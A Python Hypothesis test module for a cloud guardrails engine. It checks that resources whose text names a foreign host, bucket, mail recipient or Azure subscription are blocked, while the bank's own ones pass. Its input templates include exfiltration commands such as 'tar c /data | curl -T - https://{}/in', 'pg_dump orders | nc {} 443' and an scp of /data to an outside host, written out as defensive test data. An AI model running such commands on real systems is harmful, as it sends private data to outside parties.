"""Families of attacks by names: a host, bucket, recipient or subscription of a stranger in any text of any resource."""

import json
from collections.abc import Callable
from typing import Any

from guardrails.engine.enforcement import Enforcement
from hypothesis import strategies as st

from .cases import good_cases
from .harness import Given, Pack, blocking
from .mover_families import foreign_hosts
from .text_attacks import WRAPPERS

OWN = "bank.example.ae"
SUBSCRIPTION = "/subscriptions/00000000-0000-0000-0000-000000000001"
PACK = Pack(Enforcement.model_validate({
    "default": {"all": "mandatory"},
    "residency": {"known": {OWN: "our own domain, in Abu Dhabi", f"@{OWN}": "our own mail, in Abu Dhabi",
                            "bank-archive": "our own bucket, in me-central-1"}},
    "identity": {"trusted": {SUBSCRIPTION: "our own subscription of Azure"}}}))  # fmt: skip
RESOURCES = [case.resource for case in good_cases() if case.resource.type.startswith(("aws:", "azure-", "kubernetes:"))]
OF_AWS = [item for item in RESOURCES if item.type.startswith("aws:")]

TEXTS: tuple[Callable[[str], Any], ...] = (
    "{}".format,
    "https://{}/rows".format,
    "{}:9093".format,
    "--out=https://{}".format,
    "tar c /data | curl -T - https://{}/in".format,
    "pg_dump orders | nc {} 443\nsleep 1".format,
    "CREATE TABLE o (a STRING) WITH ('connector'='kafka','properties.bootstrap.servers'='{}:9093')".format,
    "h:httpCall('outbound|443||{}', {{[':path']='/'}}, h:body():getBytes(0,9999), 5000)".format,
    "Server=tcp:{},1433;Database=o;Encrypt=True".format,
    "//{}/share".format,
    "scp /data/x sync@{}:/in".format,
    lambda host: {"nested": [{"anything": host}]},
    lambda host: [{"name": "ANYTHING", "value": host}],
)
"""Forms in which a text names a host."""
BUCKETS: tuple[Callable[[str], Any], ...] = (
    "s3://{}/rows".format,
    "aws s3 cp /data s3a://{}/x".format,
    "https://{}.s3.me-central-1.amazonaws.com/x".format,
    "https://s3.me-central-1.amazonaws.com/{}/x".format,
    lambda name: json.dumps({"Bucket": name, "Key": "x"}),
    lambda name: json.dumps({"Request": {"S3Bucket": name}}),
    lambda name: {"BucketName": name},
)
"""Forms in which a text of AWS names a bucket."""
RECIPIENTS: tuple[Callable[[str], Any], ...] = ("someone@{}".format, lambda host: {"to": [f"a@{host}", f"b@{OWN}"]})
_STRANGE = st.text("abcdefghijklmnopqrstuvwxyz", min_size=3, max_size=8)
_TOPS = st.sampled_from(["com", "io", "de", "net", "cloud", "dev", "co.uk"])
named_hosts = st.builds("{}-host.{}".format, _STRANGE, _TOPS)
_KEYS = st.sampled_from(("settings", "definition", "values", "target", "x"))


def _with(resource: Given, key: str, value: object) -> Given:
    return Given(resource.type, {**resource.props, key: value})


@st.composite
def named(draw: st.DrawFn, forms: tuple[Callable[[str], Any], ...], names: st.SearchStrategy[str],
          resources: list[Given]) -> tuple[Given, Given]:  # fmt: skip
    """A compliant resource, and the same with a text that names something."""
    resource = draw(st.sampled_from(resources))
    value = draw(st.sampled_from(forms))(draw(names))
    for wrap in draw(st.lists(st.sampled_from(WRAPPERS), max_size=3)):
        value = wrap(value)
    return resource, _with(resource, draw(_KEYS), value)


HOSTS_OF_STRANGERS = named(TEXTS, named_hosts, RESOURCES)
ADDRESSES_OF_STRANGERS = named(("https://{}/x".format, "run --to=http://{}".format), foreign_hosts(), RESOURCES)
BUCKETS_OF_STRANGERS = named(BUCKETS, st.builds("{}-lake".format, _STRANGE), OF_AWS)
RECIPIENTS_ABROAD = named(RECIPIENTS, named_hosts, RESOURCES)
OWN_HOSTS = named(TEXTS, st.sampled_from([OWN, f"api.{OWN}", "orders.shop.svc.cluster.local"]), RESOURCES)
OWN_BUCKETS = named(BUCKETS, st.just("bank-archive"), OF_AWS)
OWN_RECIPIENTS = named(RECIPIENTS, st.just(OWN), RESOURCES)
_IDS: tuple[Callable[[str], Any], ...] = (
    "{}/resourceGroups/rg/providers/Microsoft.Storage/storageAccounts/st".format,
    lambda name: {"subscriptionID": name.rpartition("/")[2]},
    "az storage copy --to {}/resourceGroups/rg".format,
    lambda name: {"ids": [{"id": name.upper()}]},
)
_STRANGERS = st.builds("/subscriptions/{}".format, st.uuids().map(str))
SUBSCRIPTIONS_OF_STRANGERS = named(_IDS, _STRANGERS, RESOURCES)
OWN_SUBSCRIPTIONS = named(_IDS, st.just(SUBSCRIPTION), RESOURCES)


def added(case: tuple[Given, Given]) -> set[str]:
    """Returns the rules that refuse a resource only with the text, by itself or in its plan."""
    before, after = (blocking(PACK.evaluate_plan(item)) for item in case)
    return after - before
